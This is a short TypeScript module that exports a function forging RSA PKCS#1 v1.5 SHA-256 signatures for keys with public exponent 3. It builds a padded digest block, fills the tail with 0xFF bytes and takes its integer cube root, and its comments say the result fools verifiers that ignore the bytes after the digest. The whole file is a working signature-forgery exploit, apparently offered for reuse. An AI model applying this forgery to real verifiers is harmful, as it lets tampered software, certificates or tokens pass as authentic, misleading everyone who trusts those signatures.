import { createHash } from 'node:crypto';

const sha256Info = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/**
 * Returns a number of 2,048 bits whose cube begins with a right padding and a right digest.
 *
 * A verifier that does not look at what follows the digest takes it for a signature of any key with exponent 3.
 *
 * @see https://www.rfc-editor.org/rfc/rfc8017#section-8.2.2
 */
export function forgeWithCubeRoot(content: Buffer): Buffer {
  const digest = createHash('sha256').update(content).digest();
  const head = Buffer.concat([Buffer.from('0001ffffffffffffffffff00', 'hex'), sha256Info, digest]);
  const padded = Buffer.concat([head, Buffer.alloc(256 - head.length, 0xff)]);
  const root = cubeRoot(BigInt(`0x${padded.toString('hex')}`));
  return Buffer.from(root.toString(16).padStart(512, '0'), 'hex');
}

/** Returns the cube root, rounded down. */
function cubeRoot(value: bigint): bigint {
  let [low, high] = [0n, 1n << 700n];
  while (low < high) {
    const middle = (low + high + 1n) / 2n;
    if (middle ** 3n <= value) low = middle;
    else high = middle - 1n;
  }
  return low;
}
